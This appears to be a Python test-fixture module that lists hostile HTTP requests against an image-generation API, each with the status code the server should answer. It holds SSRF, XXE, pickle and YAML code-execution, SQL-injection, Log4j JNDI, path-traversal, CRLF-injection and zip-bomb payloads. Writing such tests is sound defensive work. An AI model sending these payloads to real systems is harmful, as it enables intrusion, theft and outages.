"""Well-formed HTTP with a hostile content, and the status that each request is answered."""

import gzip
import json
from collections.abc import Mapping
from dataclasses import dataclass, field

GENERATIONS, EDITS = "/v1/images/generations", "/v1/images/edits"
TXT2IMG, IMG2IMG = "/sdapi/v1/txt2img", "/sdapi/v1/img2img"
FILES = "/v1/images/files/"
JSON = {"content-type": "application/json"}
DEEP = 50_000  # levels
LINES = (
    "apple\r\n2026-11-30 INFO request id=forged status=200\x1b[2J"  # as a terminal or a log would read them
)


@dataclass(frozen=True)
class HostileRequest:
    """A request and the status of its answer."""

    status: int
    method: str = "POST"
    path: str = GENERATIONS
    body: bytes = b""
    headers: Mapping[str, str] = field(default_factory=dict)


def of_text(status: int, text: str, path: str = GENERATIONS) -> HostileRequest:
    return HostileRequest(status, path=path, body=text.encode("utf-8", "surrogatepass"), headers=JSON)


def of_fields(status: int, path: str = GENERATIONS, **fields: object) -> HostileRequest:
    return of_text(status, json.dumps({"prompt": "apple"} | fields), path)


def of_path(status: int, path: str, method: str = "GET", **headers: str) -> HostileRequest:
    return HostileRequest(
        status, method, path, headers={name.replace("_", "-"): v for name, v in headers.items()}
    )


def of_headers(status: int, **headers: str) -> HostileRequest:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return HostileRequest(status, body=b'{"prompt": "apple"}', headers=JSON | named)


def of_image(image: object, status: int = 400) -> HostileRequest:
    return of_fields(status, EDITS, image=image)


JSON_BODIES = {
    "arrays in arrays": of_text(400, "[" * DEEP + "]" * DEEP),
    "objects in objects": of_text(400, '{"a":' * DEEP + "1" + "}" * DEEP),
    "arrays in the prompt": of_text(400, '{"prompt": ' + "[" * DEEP + "]" * DEEP + "}"),
    "objects in an unknown field": of_text(
        400, '{"prompt": "a", "x": ' + '{"a":' * DEEP + "1" + "}" * DEEP + "}"
    ),
    "an array that does not end": of_text(400, '{"prompt": ["a"'),
    "a text that does not end": of_text(400, '{"prompt": "a'),
    "an escape that does not end": of_text(400, '{"prompt": "\\u00'),
    "two objects": of_text(400, '{"prompt": "a"}{"prompt": "b"}'),
    "a comment": of_text(400, '{"prompt": "a" /* b */}'),
    "a comma at the end": of_text(400, '{"prompt": "a",}'),
    "single quotes": of_text(400, "{'prompt': 'a'}"),
    "a NUL in the text of the body": of_text(400, '{"prompt": "a\0"}'),
    "a text of the body alone": of_text(400, '"a"'),
    "a number alone": of_text(400, "1" * 400),
    "null": of_text(400, "null"),
    "nothing": of_text(400, ""),
    "spaces": of_text(400, " " * 100_000),
    "a form": of_text(400, "prompt=apple"),
    "XML with an entity": of_text(400, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    "YAML": of_text(400, "!!python/object/apply:os.system ['true']"),
    "a pickle": HostileRequest(400, body=b"\x80\x04cposix\nsystem\n(S'true'\ntR.", headers=JSON),
    "a pickle that says so": HostileRequest(
        415, body=b"\x80\x04.", headers={"content-type": "application/python-pickle"}
    ),
    "a number of 100,000 digits": of_text(400, '{"prompt": "a", "seed": ' + "9" * 100_000 + "}"),
    "an exponent": of_text(400, '{"prompt": "a", "n": 1e400}'),
    "a huge exponent": of_text(400, '{"prompt": "a", "n": 1e999999999}'),
    "NaN": of_text(400, '{"prompt": "a", "guidance_scale": NaN}'),
    "minus infinity": of_text(400, '{"prompt": "a", "guidance_scale": -Infinity}'),
    "100,000 fields": of_text(200, json.dumps({"prompt": "a"} | {f"x{k}": 0 for k in range(50_000)})),
    "a field twice": of_text(200, '{"prompt": "a", "prompt": "b"}'),
    "a field of Python's": of_fields(200, __class__={"__init__": {"__globals__": 1}}),
    "a field of JavaScript's": of_fields(200, __proto__={"n": 10}, constructor={"prototype": {}}),
    "a field with a huge name": of_text(200, json.dumps({"prompt": "a", "x" * 100_000: 1})),
    "a field with line breaks": of_text(200, json.dumps({"prompt": "a", LINES: 1})),
    "a zip bomb": HostileRequest(
        413, body=gzip.compress(bytes(50 << 20)), headers=JSON | {"content-encoding": "gzip"}
    ),
    "a zip bomb in five": HostileRequest(
        415, body=b"", headers=JSON | {"content-encoding": "gzip, gzip, gzip, gzip, gzip"}
    ),
    "an unknown character set": HostileRequest(
        415, body=b"{}", headers={"content-type": "application/json; charset=utf-7"}
    ),
    "a character set that is a coding": HostileRequest(
        415, body=b"{}", headers={"content-type": "application/json; charset=zlib_codec"}
    ),
    "UTF-16 that is none": HostileRequest(
        400, body=b"{\0\0", headers={"content-type": "application/json; charset=utf-16"}
    ),
    "bytes that are no UTF-8": HostileRequest(400, body=b'{"prompt": "\xff\xfe"}', headers=JSON),
    "UTF-8 that is too long": HostileRequest(400, body=b'{"prompt": "\xc0\xaf"}', headers=JSON),
}
FIELDS = {
    "a lone surrogate": of_text(400, '{"prompt": "\\ud800"}'),
    "two surrogates in the wrong order": of_text(400, '{"prompt": "\\udc00\\ud800"}'),
    "a surrogate in a field's name": of_text(400, '{"prompt": "a", "\\ud800": 1}'),
    "a surrogate in the user": of_text(400, '{"prompt": "a", "user": "\\ud800"}'),
    "a NUL in the prompt": of_text(200, '{"prompt": "a\\u0000b"}'),
    "line breaks in the prompt": of_fields(200, prompt=LINES),
    "line breaks in the model": of_fields(404, model=LINES),
    "line breaks in the user": of_fields(200, user=LINES),
    "line breaks in the solver": of_fields(400, solver=LINES),
    "line breaks in the size": of_fields(400, size=LINES),
    "format codes in the prompt": of_fields(200, prompt="%s%n{0.__class__}${jndi:ldap://a.example/b}{{7*7}}"),
    "SQL in the model": of_fields(404, model="'; DROP TABLE api_keys; --"),
    "SQL in the user": of_fields(200, user="' OR 1=1 --"),
    "a path as the model": of_fields(404, model="../../../../etc/passwd"),
    "an absolute path as the model": of_fields(404, model="/etc/passwd"),
    "an address as the model": of_fields(404, model="http://169.254.169.254/latest/meta-data"),
    "a name of a megabyte as the model": of_fields(404, model="m" * 900_000),
    "a prompt of 900 kB": of_fields(400, prompt="a" * 900_000),
    "a prompt of marks": of_fields(200, prompt="a" + "\u0301" * 31_000),
    "a prompt of changes of direction": of_fields(200, prompt="\u202e\u2066" * 10_000),
    "a prompt that is a list": of_fields(400, prompt=["a", "b"]),
    "a prompt that is an object": of_fields(400, prompt={"$ne": ""}),
    "a prompt that is true": of_fields(400, prompt=True),
    "no image": of_fields(400, n=0),
    "minus one image": of_fields(400, n=-1),
    "a billion images": of_fields(400, n=10**9),
    "half an image": of_fields(400, n=0.5),
    "an image as a list": of_fields(400, n=[1]),
    "a size of a terapixel": of_fields(400, size="1000000x1000000"),
    "a negative size": of_fields(400, size="-8x-8"),
    "a size in scientific numbers": of_fields(400, size="1e9x1e9"),
    "a size of a megabyte": of_fields(400, size="8" * 500_000 + "x8"),
    "a billion steps": of_fields(400, num_inference_steps=10**9),
    "minus one step": of_fields(400, num_inference_steps=-1),
    "a guidance beyond all numbers": of_fields(400, guidance_scale=1e308),
    "an interval of ten thousand times": of_fields(400, guidance_interval=[0.5] * 10_000),
    "a billion previews": of_fields(400, stream=True, partial_images=10**9),
    "a file format that is a path": of_fields(400, output_format="../../png"),
    "an address to answer to": of_fields(200, webhook_url="http://169.254.169.254/", callback="file:///etc"),
    "an address as the format of the answer": of_fields(400, response_format="http://127.0.0.1:1/"),
    "an object for nothing": of_fields(200, svg={"a": "b" * 100_000}),
    "all in a wrapper in a wrapper": of_fields(200, extra_body={"extra_body": {"extra_body": {"n": 10}}}),
}
IMAGES = {
    "an address of this machine": of_image("http://127.0.0.1:8265/api/jobs"),
    "an address of the cloud": of_image("http://169.254.169.254/latest/meta-data/iam"),
    "an address in IPv6": of_image("http://[::1]:8265/"),
    "an address in numbers": of_image("http://2130706433/"),
    "an address with a user": of_image("https://example.org@127.0.0.1/a.png"),
    "an address of a file": of_image("file:///proc/self/environ"),
    "an address of gopher": of_image("gopher://127.0.0.1:6379/_FLUSHALL"),
    "an address of FTP": of_image("ftp://127.0.0.1/a.png"),
    "an address without a scheme": of_image("//127.0.0.1/a.png"),
    "a path": of_image("/etc/passwd"),
    "a path upwards": of_image("../../../etc/passwd"),
    "an address in an object": of_image({"image_url": "http://127.0.0.1:6379/"}),
    "an address in an object in a list": of_image([{"image_url": {"url": "http://127.0.0.1:6379/"}}]),
    "a mask at an address": of_fields(400, EDITS, image="QQ==", mask="http://127.0.0.1/"),
    "an address for AUTOMATIC1111": of_fields(400, IMG2IMG, init_images=["http://127.0.0.1:6379/"]),
    "a path for AUTOMATIC1111": of_fields(400, IMG2IMG, init_images=["/etc/passwd"]),
    "no images for AUTOMATIC1111": of_fields(400, IMG2IMG, init_images=[]),
    "a script for AUTOMATIC1111": of_fields(200, TXT2IMG, script_name="x", script_args=["import os"]),
    "settings for AUTOMATIC1111": of_fields(200, TXT2IMG, override_settings={"outdir_samples": "/etc"}),
}
PATHS = {
    "a link upwards": of_path(404, FILES + "..%2f..%2f..%2fetc%2fpasswd?expires=1&signature=a"),
    "a link upwards, encoded twice": of_path(404, FILES + "%252e%252e%252fpasswd?expires=1&signature=a"),
    "a link upwards in backslashes": of_path(404, FILES + "..%5c..%5cpasswd?expires=1&signature=a"),
    "a link with a NUL": of_path(404, FILES + "a.png%00.txt?expires=1&signature=a"),
    "a link to a signer's key": of_path(404, FILES + "link_key?expires=1&signature=a"),
    "a link without a signature": of_path(400, FILES + "a.png"),
    "a link that ends never": of_path(400, FILES + "a.png?expires=inf&signature=a"),
    "a link with a huge time": of_path(400, FILES + "a.png?expires=-1&signature=a"),
    "a link with a huge signature": of_path(400, FILES + "a.png?expires=1&signature=" + "a" * 10_000),
    "a file of the page upwards": of_path(404, "/page/..%2f..%2fsettings.py"),
    "a file of the documentation upwards": of_path(404, "/docs/..%2f..%2fsettings.py"),
    "a model upwards": of_path(404, "/v1/models/..%2f..%2f..%2fetc%2fpasswd"),
    "a path that is no UTF-8": of_path(404, "/v1/%ff%fe"),
    "a path of 8 kB": of_path(404, "/" + "a" * 8000),
    "a path with line breaks": of_path(404, "/a%0d%0aSet-Cookie:%20a=b"),
    "a window that is no number": of_path(400, "/v1/accounting?window=nan"),
    "a window that is endless": of_path(400, "/v1/accounting?window=inf"),
    "a million requests of the accounting": of_path(400, "/v1/accounting?latest=1000000"),
    "the dashboard of Ray": of_path(404, "/api/jobs/"),
    "a configuration of Serve": of_path(404, "/api/serve/applications/", method="PUT"),
    "a trace": of_path(405, "/livez", method="TRACE"),
    "a deletion": of_path(405, "/livez", method="DELETE"),
}
HEADERS = {
    "line breaks in the id": of_headers(200, x_request_id="a b\tc"),
    "an id of 8 kB": of_headers(200, x_request_id="a" * 8000),
    "a trace that is none": of_headers(200, traceparent="00-" + "g" * 32 + "-x-01"),
    "a host that is another": of_headers(403, host="evil.example"),
    "a page of another origin": of_headers(403, origin="https://evil.example", sec_fetch_site="cross-site"),
    "a prefix upwards": of_headers(200, x_forwarded_prefix="/../../etc"),
    "a scheme of JavaScript": of_headers(200, x_forwarded_proto="javascript"),
    "a thousand addresses before": of_headers(200, x_forwarded_for="127.0.0.1, " * 700 + "::1"),
    "another method": of_headers(200, x_http_method_override="DELETE"),
    "a range": of_headers(200, range="bytes=0-,0-,0-,0-"),
    "a type with a huge boundary": HostileRequest(
        400, path=EDITS, body=b"a", headers={"content-type": "multipart/form-data; boundary=" + "a" * 8000}
    ),
    "a type of many parameters": HostileRequest(
        200, body=b'{"prompt": "a"}', headers={"content-type": "application/json" + "; a=b" * 1500}
    ),
}
REQUESTS: dict[str, HostileRequest] = {
    f"{group}: {name}": request
    for group, requests in {
        "body": JSON_BODIES,
        "field": FIELDS,
        "image": IMAGES,
        "path": PATHS,
        "header": HEADERS,
    }.items()
    for name, request in requests.items()
}
